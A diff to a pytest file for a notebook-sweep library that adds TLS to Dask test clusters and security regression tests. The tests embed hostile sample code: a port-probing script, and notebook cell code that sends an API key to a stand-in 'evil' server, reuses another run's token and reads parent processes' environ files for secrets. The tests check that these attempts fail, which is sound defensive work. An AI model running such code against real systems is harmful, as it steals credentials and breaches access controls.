@@ -2,7 +2,9 @@
 import io
 import json
 import os
+import shutil
 import signal
+import socket
 import subprocess
 import sys
 import tarfile
@@ -21,7 +23,7 @@ from factlib.runs.dask import arrive, job_script, local_workers, scheduler_worke
 from factlib.runs.grid import load_grid
 from factlib.runs.sweep import here, plan, run_sweep
 from factlib.runs.sweep_said import exit_code
-from sweeps import asking, grid, notebook, rows, statuses
+from sweeps import asking, grid, notebook, rows, statuses, sweep
 
 KEY = 'sk-the-real-key'
 
@@ -90,22 +92,41 @@ def until(condition, seconds=60):
     while not condition() and time.monotonic() < end: time.sleep(.05)
     assert condition()
 
+@pytest.fixture
+def certificates(tmp_path):
+    "Dask's configuration for TLS, and what its command line needs to know of it."
+    import dask.config
+    from distributed.security import Security
+    made, folder = Security.temporary(), tmp_path/'tls'
+    folder.mkdir(mode=0o700)
+    for name, text in (('ca', made.tls_ca_file), ('cert', made.tls_client_cert), ('key', made.tls_client_key)): (folder/name).write_text(text)
+    one = dict(cert=str(folder/'cert'), key=str(folder/'key'))
+    with dask.config.set({'distributed.comm.tls': {'ca-file': str(folder/'ca'), **dict.fromkeys(('client', 'worker', 'scheduler'), one), 'ciphers': None, 'min-version': 1.2, 'max-version': None}}):
+        yield ['--protocol', 'tls', '--tls-ca-file', str(folder/'ca'), '--tls-cert', one['cert'], '--tls-key', one['key']]
+
+def address_of_this_machine():
+    "As others see it, so that what we say to workers is encrypted; 127.0.0.1 where there is no network."
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
+        try: probe.connect(('192.0.2.1', 9)) # RFC 5737; nothing is sent
+        except OSError: return '127.0.0.1'
+        return probe.getsockname()[0]
+
 @contextmanager
-def scheduler(folder):
+def scheduler(folder, *more):
     "A scheduler; its address."
-    with dask('scheduler', '--port', '0', '--no-dashboard', '--host', '127.0.0.1', cwd=folder) as (_, log):
+    with dask('scheduler', '--port', '0', '--no-dashboard', '--host', address_of_this_machine(), *more, cwd=folder) as (_, log):
         found = lambda: next((line.split('Scheduler at:')[1].strip() for line in log if 'Scheduler at:' in line), '')
         until(found)
         yield found()
 
-def worker(address, folder): return dask('worker', address, '--nthreads', '1', '--no-dashboard', '--death-timeout', '30', '--local-directory', str(folder), cwd=folder)
+def worker(address, folder, *more): return dask('worker', address, '--nthreads', '1', '--no-dashboard', '--death-timeout', '30', '--local-directory', str(folder), *more, cwd=folder)
 
 def connected(address, n):
     from distributed import Client
     with Client(address, set_as_default=False, timeout=20) as client: client.wait_for_workers(n, timeout=60)
 
 @pytest.mark.slow
-def test_workers_in_separate_folders_one_killed(asked, tmp_path):
+def test_workers_in_separate_folders_one_killed(asked, tmp_path, certificates):
     "As on other machines: notebook and data travel, answers and tables come back, and so does the notebook of a cell that fails."
     Path('texts.csv').write_text('data of mine')
     said = json.loads(asked.grid.read_text())
@@ -114,10 +135,11 @@ def test_workers_in_separate_folders_one_killed(asked, tmp_path):
     own['cells'].insert(1, dict(own['cells'][1], id='reads', source='assert open(texts).read() == "data of mine"\nassert name != "z", "broken on purpose"'))
     Path('asking.ipynb').write_text(json.dumps(own))
     file = grid(tmp_path, dict(said, parameters=said['parameters'] | dict(texts='texts.csv'), grid=dict(name=['a', 'b', 'z'])))
-    with scheduler(tmp_path/'s') as address:
+    with scheduler(tmp_path/'s', *certificates) as address:
+        assert address.startswith('tls://')
         with pytest.raises(BadInput, match='has no workers'): swept(file, tmp_path/'out', scheduler_workers(address))
         assert not (tmp_path/'out').exists()
-        with worker(address, tmp_path/'w1'), worker(address, tmp_path/'w2'):
+        with worker(address, tmp_path/'w1', *certificates), worker(address, tmp_path/'w2', *certificates):
             connected(address, 2)
             summary = swept(file, tmp_path/'out', scheduler_workers(address))
     assert (summary['done'], summary['failed']) == (2, 1), rows(tmp_path/'out')
@@ -132,14 +154,16 @@ def test_a_scheduler_that_doesnt_answer(tmp_path, monkeypatch):
     notebook(tmp_path/'own.ipynb', 'x:int = 1', 'x')
     file = grid(tmp_path, dict(experiment='own.ipynb', grid=dict(x=[1])))
     for address in ('tcp://127.0.0.1:1', 'nonsense://x:1'):
-        with pytest.raises(BadInput, match='No Dask scheduler answers'): swept(file, tmp_path/'out', scheduler_workers(address, timeout=1))
+        with pytest.raises(BadInput, match='No Dask scheduler answers'): swept(file, tmp_path/'out', scheduler_workers(address, timeout=1, insecure=True))
+        with pytest.raises(BadInput, match='can run code as you.*--insecure'): scheduler_workers(address) # before, it was taken
+    with pytest.raises(BadInput, match='lets in who has a certificate'): swept(file, tmp_path/'out', scheduler_workers('tls://127.0.0.1:1'))
     assert not (tmp_path/'out').exists()
 
 def test_without_dask_cells_run_here(monkeypatch):
     import factlib.runs.dask as room
     monkeypatch.setattr(room, 'has_dask', lambda: False)
     assert room.local_workers(4) is here
-    with pytest.raises(BadInput, match=r'factlib\[scale\]'): room.scheduler_workers('tcp://127.0.0.1:1')
+    with pytest.raises(BadInput, match=r'factlib\[scale\]'): room.scheduler_workers('tls://127.0.0.1:1')
 
 def test_a_script_for_slurm_is_shown(tmp_path):
     from click.testing import CliRunner
@@ -218,3 +242,80 @@ def test_copies_are_whole_when_they_are_there(tmp_path, monkeypatch):
     assert order == ['notebook.html', 'notebook.ipynb']*2 + ['cells.csv', 'index.html']*2
     assert {p.name for p in (tmp_path/'elsewhere').iterdir()} == {'x=1', 'x=2', 'cells.csv', 'index.html'}
     with pytest.raises(BadInput, match='Nothing can be copied'): copying('out', 'nowhere://x')
+
+# Who isn't the user, and code in a cell that tries what it shouldn't
+
+NOBODY = ['setpriv', '--reuid', '65534', '--regid', '65534', '--clear-groups']
+
+# A scheduler or worker of Dask speaks first: what answers to a stranger's connection, plain or encrypted, has let him in.
+KNOCKING = '''
+import socket, ssl, sys, urllib.request
+open_page = urllib.request.build_opener(urllib.request.ProxyHandler({})).open
+trusting = ssl.create_default_context()
+trusting.check_hostname, trusting.verify_mode = False, ssl.CERT_NONE
+for port in sys.argv[1:]:
+    for way in ('tcp', 'tls'):
+        try:
+            with socket.create_connection(('127.0.0.1', port), 1) as plain:
+                knocks = plain if way == 'tcp' else trusting.wrap_socket(plain)
+                print('IN' if knocks.recv(10) else 'out', way, port)
+        except OSError as e: print('out', way, port, type(e).__name__)
+    for page in ('info/main/workers.html', 'json/counts.json', 'status'):
+        try: print('IN', page, port, open_page(f'http://127.0.0.1:{port}/{page}', timeout=1).status)
+        except Exception as e: print('out', page, port, type(e).__name__)
+'''
+
+@pytest.mark.slow
+@pytest.mark.skipif(not sys.platform.startswith('linux'), reason='it looks for the ports in /proc')
+def test_nobody_else_reaches_scheduler_or_workers(tmp_path):
+    "Before, another account connected by TCP and ran code as the sweeping user. Each port that we or our workers listen at is tried."
+    import psutil
+    with local_workers(2)(2):
+        ours = [psutil.Process(), *psutil.Process().children(recursive=True)]
+        ports = {str(c.laddr.port) for p in ours for c in p.net_connections('tcp') if c.status == 'LISTEN'}
+        arguments = [arg for p in ours for arg in p.cmdline()]
+        as_nobody = NOBODY if os.geteuid() == 0 and shutil.which('setpriv') else []
+        (tmp_path/'home').mkdir(mode=0o777)
+        said = subprocess.run([*as_nobody, sys.executable, '-c', KNOCKING, *sorted(ports)], capture_output=True, text=True, cwd='/', env=os.environ | dict(HOME=str(tmp_path/'home')), timeout=120)
+    assert len(ports) >= 3 and [line.split()[0] for line in said.stdout.splitlines()] == ['out']*5*len(ports), said.stdout + said.stderr
+    assert not any('PRIVATE KEY' in arg for arg in arguments)
+
+TRYING = """import asyncio, http.client, json, os, urllib.parse
+from pathlib import Path
+from factlib.llm.chat import Chat
+from factlib.llm.gateway import gated_url
+gate, token, found = os.environ['FACTLIB_GATE'], os.environ['OPENAI_API_KEY'], []
+def told(method, path, body=b'{}', token=token):
+    at = http.client.HTTPConnection(urllib.parse.urlsplit(gate).netloc, timeout=20)
+    at.request(method, path, body, {'Authorization': f'Bearer {token}'})
+    return at.getresponse().status
+def chat_at(url): return urllib.parse.urlsplit(gated_url(gate, url, 5)).path + '/chat/completions'
+elsewhere, ended = told('POST', chat_at(evil)), ''
+if name == 'b' and one_at_a_time: ended = told('GET', '/account', token=Path(notes, 'token-a').read_text())
+Path(notes, f'token-{name}').write_text(token)
+replaced = told('POST', '/answers', json.dumps(dict(rows=[], replace=True)).encode())
+places, process = [os.environ.copy()], os.getpid()
+while process not in (0, 1, upto): # this kernel and all that have started it
+    for file in ('environ', 'cmdline'):
+        try: places.append(Path(f'/proc/{process}/{file}').read_bytes())
+        except OSError: pass # sealed
+    process = int(Path(f'/proc/{process}/status').read_text().split('PPid:')[1].split()[0])
+reply = await Chat('m', base_url, mode='off')('a question')
+Path(notes, f'said-{name}.json').write_text(json.dumps(dict(elsewhere=elsewhere, ended=ended, replaced=replaced, reply=reply.text, seen=str(places))))"""
+
+@pytest.mark.slow
+@pytest.mark.parametrize('workers', [1, 2])
+def test_code_in_a_cell_that_tries(workers, tmp_path, monkeypatch):
+    "Before, a cell could have the key sent to any server, and find it in /proc of what had started it; a token opened the gateway to the sweep's end."
+    monkeypatch.chdir(tmp_path)
+    monkeypatch.delenv('FACTLIB_CACHE', raising=False)
+    with StubServer(lambda request: 'Yes.', key=KEY) as server, StubServer(lambda request: 'Evil.') as evil:
+        parameters = f'base_url:str = {server.base_url!r}\nevil:str = {evil.base_url!r}\nname:str = "a"\nnotes:str = {str(tmp_path)!r}\nupto:int = {os.getpid()}\none_at_a_time:bool = {workers == 1}'
+        notebook(tmp_path/'trying.ipynb', parameters, TRYING)
+        grid(tmp_path, dict(experiment='trying.ipynb', grid=dict(name=['a', 'b'])))
+        ran = sweep('grid.yaml', '--out', 'out', '--workers', workers, cwd=tmp_path, OPENAI_API_KEY=KEY)
+    assert not evil.requests and ran[0] == 0, ran
+    told = {name: json.loads((tmp_path/f'said-{name}.json').read_text()) for name in 'ab'}
+    assert all((t['elsewhere'], t['replaced'], t['reply']) == (403, 404, 'Yes.') for t in told.values()) # 404: where the disk is shared, there is no such door
+    assert KEY not in str(told) and (workers > 1 or told['b']['ended'] == 401)
+    for file in tmp_path.rglob('*'): assert not file.is_file() or KEY.encode() not in file.read_bytes(), file
